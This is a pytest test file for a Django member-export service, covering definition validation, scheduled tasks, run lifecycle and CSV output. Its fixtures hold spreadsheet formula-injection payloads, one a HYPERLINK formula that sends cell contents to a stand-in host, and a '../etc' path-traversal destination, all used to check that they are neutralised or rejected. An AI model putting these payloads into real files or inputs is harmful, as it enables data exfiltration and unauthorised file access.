import csv
import io

import pytest
from django.core.files.storage import default_storage
from django_celery_beat.models import PeriodicTask

from config.actors import Actor
from exports import datasets, lifecycle, services
from exports.datasets import Column, Dataset, register_dataset, unregister_dataset
from exports.exceptions import ExportDefinitionError, ExportRunError
from exports.models import ExportDefinition, ExportRun
from exports.schedules import SCHEDULED_TASK
from tests.exports.factories import ExportDefinitionFactory
from tests.members.factories import MemberFactory, SegmentFactory

pytestmark = pytest.mark.django_db

ACTOR = Actor.system("test")


def read_csv(run: ExportRun) -> list[list[str]]:
    with default_storage.open(run.file.name, "rb") as handle:
        return list(csv.reader(io.TextIOWrapper(handle, encoding="utf-8", newline="")))


def create(**overrides):
    values = {"name": "Members", "dataset": "members", "columns": ["external_id", "status"], "actor": ACTOR}
    values.update(overrides)
    return services.export_definition_create(**values)


def test_export_definition_create_with_no_columns_takes_all_of_the_dataset():
    definition = create(columns=[])
    assert definition.columns[:3] == ["external_id", "email", "mobile"]
    assert "segments" in definition.columns


@pytest.mark.parametrize(
    ("overrides", "code", "field"),
    [
        ({"columns": ["external_id", "shoe_size"]}, "unknown_column", "columns"),
        ({"columns": ["email", "email"]}, "unknown_column", "columns"),
        ({"filters": {"colour": "red"}}, "unknown_filter", "filters"),
        ({"filters": {"status": "sleeping"}}, "invalid_export_definition", "filters"),
        ({"filters": {"registered_from": "yesterday"}}, "invalid_export_definition", "filters"),
        ({"schedule": "61 * * * *"}, "invalid_schedule", "schedule"),
        ({"schedule": "every day"}, "invalid_schedule", "schedule"),
        ({"destination": "../etc"}, "invalid_export_definition", "destination"),
        ({"dataset": "coupons"}, "dataset_not_available", "dataset"),
        ({"dataset": "weather"}, "unknown_dataset", "dataset"),
    ],
)
def test_export_definition_create_rejects_what_does_not_fit_the_dataset(overrides, code, field, monkeypatch):
    if code == "dataset_not_available":  # a contract dataset whose app has not registered it
        monkeypatch.delitem(datasets._registry, overrides["dataset"], raising=False)
    with pytest.raises(ExportDefinitionError) as caught:
        create(**overrides)
    assert caught.value.code == code
    assert caught.value.http_status == 400
    assert field in caught.value.errors
    assert not ExportDefinition.objects.exists()
    assert not PeriodicTask.objects.filter(task=SCHEDULED_TASK).exists()


def test_export_definition_with_schedule_gets_its_own_periodic_task():
    definition = create(schedule="30 2 * * 1-5")
    task = definition.periodic_task
    assert task.task == "exports.tasks.export_definition_run_scheduled_task"
    assert task.kwargs == f'{{"definition_id": {definition.pk}}}'
    assert task.enabled
    assert (task.crontab.minute, task.crontab.hour, task.crontab.day_of_week) == ("30", "2", "1-5")


def test_export_definition_update_moves_disables_and_removes_the_periodic_task():
    definition = create(schedule="0 3 * * *")
    task_id = definition.periodic_task_id

    definition = services.export_definition_update(definition=definition, schedule="15 4 * * *", actor=ACTOR)
    assert definition.periodic_task_id == task_id
    assert PeriodicTask.objects.get(pk=task_id).crontab.hour == "4"

    definition = services.export_definition_update(definition=definition, active=False, actor=ACTOR)
    assert not PeriodicTask.objects.get(pk=task_id).enabled

    definition = services.export_definition_update(definition=definition, schedule=None, actor=ACTOR)
    assert definition.periodic_task is None
    assert not PeriodicTask.objects.filter(pk=task_id).exists()


def test_export_definition_update_with_bad_cron_changes_nothing():
    definition = create(schedule="0 3 * * *")
    with pytest.raises(ExportDefinitionError):
        services.export_definition_update(definition=definition, schedule="0 25 * * *", actor=ACTOR)
    definition.refresh_from_db()
    assert definition.schedule == "0 3 * * *"
    assert definition.periodic_task.crontab.hour == "3"


def test_export_definition_delete_removes_its_periodic_task():
    definition = create(schedule="0 3 * * *")
    services.export_definition_delete(definition=definition, actor=ACTOR)
    assert not PeriodicTask.objects.filter(task=SCHEDULED_TASK).exists()


def test_export_run_start_writes_the_chosen_columns_for_the_filtered_rows(django_capture_on_commit_callbacks):
    vip = SegmentFactory(code="vip")
    MemberFactory(external_id="M-1", segments=[vip])
    MemberFactory(external_id="M-2")
    MemberFactory(external_id="M-3", inactive=True, segments=[vip])
    definition = create(columns=["external_id", "status", "segments"], filters={"segment": "vip", "status": "active"})

    with django_capture_on_commit_callbacks(execute=True) as queued:  # tasks run in-process in unit tests
        run = services.export_run_start(definition=definition, actor=ACTOR)

    assert len(queued) == 2  # the export task, and the webhook dispatcher its export_run.finished event wakes
    run.refresh_from_db()
    assert run.status == ExportRun.Status.SUCCEEDED
    assert run.rows == 1
    assert (run.progress_done, run.progress_total) == (1, 1)
    assert run.duration is not None and run.attempts == 1
    assert read_csv(run) == [["external_id", "status", "segments"], ["M-1", "active", "vip"]]
    assert run.file.name == f"exports/export-{definition.pk}-run-{run.pk}.csv"
    assert list(run.events.values_list("old_status", "new_status")) == [
        ("", "queued"), ("queued", "running"), ("running", "succeeded"),
    ]  # fmt: skip


def test_export_run_execute_quotes_commas_quotes_newlines_and_unicode():
    MemberFactory(external_id="M-1", first_name='Zoë "Z", the\nsecond', last_name="Łukasz")
    definition = create(columns=["external_id", "first_name", "last_name"])
    run = services.export_run_create(definition=definition, actor=ACTOR)
    run = services.export_run_execute(run_id=run.pk, actor=ACTOR)
    assert run.rows == 1
    assert read_csv(run)[1] == ["M-1", 'Zoë "Z", the\nsecond', "Łukasz"]


def test_export_run_execute_again_after_an_interrupted_attempt_rewrites_the_file_with_exact_rows(settings):
    settings.EXPORTS_CHUNK_ROWS = 2
    MemberFactory.create_batch(5)
    definition = create()
    run = services.export_run_create(definition=definition, actor=ACTOR)
    # A worker died half-way: the run is left running with a partial file in place.
    ExportRun.objects.filter(pk=run.pk).update(status="running", progress_done=2, attempts=1)
    default_storage.save(services.export_run_file_name(run), io.BytesIO(b"external_id,status\nstale,row\n"))

    run = services.export_run_execute(run_id=run.pk, actor=ACTOR)

    assert run.status == ExportRun.Status.SUCCEEDED
    assert run.rows == 5 and run.attempts == 2
    rows = read_csv(run)
    assert len(rows) == 6 and ["stale", "row"] not in rows
    assert run.events.filter(old_status="running", new_status="running").count() == 1


def test_export_run_execute_of_a_finished_run_changes_nothing():
    MemberFactory()
    run = services.export_run_create(definition=create(), actor=ACTOR)
    run = services.export_run_execute(run_id=run.pk, actor=ACTOR)
    finished_at = run.finished_at
    again = services.export_run_execute(run_id=run.pk, actor=ACTOR)
    assert again.status == "succeeded" and again.finished_at == finished_at and again.attempts == 1


def test_export_run_execute_fails_the_run_when_the_dataset_is_gone():
    definition = ExportDefinitionFactory(dataset="transient")
    register_dataset(Dataset(name="transient", source="members_member m", order_by="m.id",
                             columns=[Column("external_id", "m.external_id")]))  # fmt: skip
    definition.columns = ["external_id"]
    definition.save()
    run = services.export_run_create(definition=definition, actor=ACTOR)
    unregister_dataset("transient")

    run = services.export_run_execute(run_id=run.pk, actor=ACTOR)

    assert run.status == ExportRun.Status.FAILED
    assert run.error == "Unknown dataset 'transient'." and not run.file


def test_export_run_transition_refuses_moves_outside_the_table():
    run = services.export_run_create(definition=create(), actor=ACTOR)
    assert not lifecycle.export_run_transition(run_id=run.pk, to="succeeded", actor=ACTOR)
    assert lifecycle.export_run_transition(run_id=run.pk, to="failed", actor=ACTOR, error="cancelled")
    assert not lifecycle.export_run_transition(run_id=run.pk, to="running", actor=ACTOR)
    run.refresh_from_db()
    assert run.status == "failed"


def test_export_run_create_of_an_inactive_definition_is_refused():
    definition = create(active=False)
    with pytest.raises(ExportRunError) as caught:
        services.export_run_create(definition=definition, actor=ACTOR)
    assert caught.value.code == "export_definition_inactive"
    assert not ExportRun.objects.exists()


def test_export_run_execute_neutralises_formula_cells_and_keeps_numbers_and_plain_text():
    given = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "-12.50", "+3",
             "Zoë", "a=b"]  # fmt: skip
    for number, value in enumerate(given):
        MemberFactory(external_id=f"M-{number:02}", first_name=value, transaction_count=number)
    definition = create(columns=["external_id", "first_name", "transaction_count"])
    run = services.export_run_execute(run_id=services.export_run_create(definition=definition, actor=ACTOR).pk,
                                      actor=ACTOR)  # fmt: skip
    rows = read_csv(run)[1:]
    assert [row[1] for row in rows] == [
        '\'=HYPERLINK("http://x.example/?"&A1)', "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR", "-12.50",
        "+3", "Zoë", "a=b",
    ]  # fmt: skip
    assert [row[2] for row in rows] == [str(number) for number in range(len(given))]
    assert run.rows == len(given)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_export_copy_on_its_own_connection_neutralises_computed_text_columns_too():
    member = MemberFactory(external_id="M-1", first_name="=1+1", transaction_count=7)
    member.segments.add(SegmentFactory(code="@VIP"))
    definition = create(columns=["external_id", "first_name", "transaction_count", "segments", "registered_at"])
    run = services.export_run_execute(run_id=services.export_run_create(definition=definition, actor=ACTOR).pk,
                                      actor=ACTOR)  # fmt: skip
    header, row = read_csv(run)
    assert header == ["external_id", "first_name", "transaction_count", "segments", "registered_at"]
    assert row[:4] == ["M-1", "'=1+1", "7", "'@VIP"]
    assert row[4].startswith(str(member.registered_at.year))
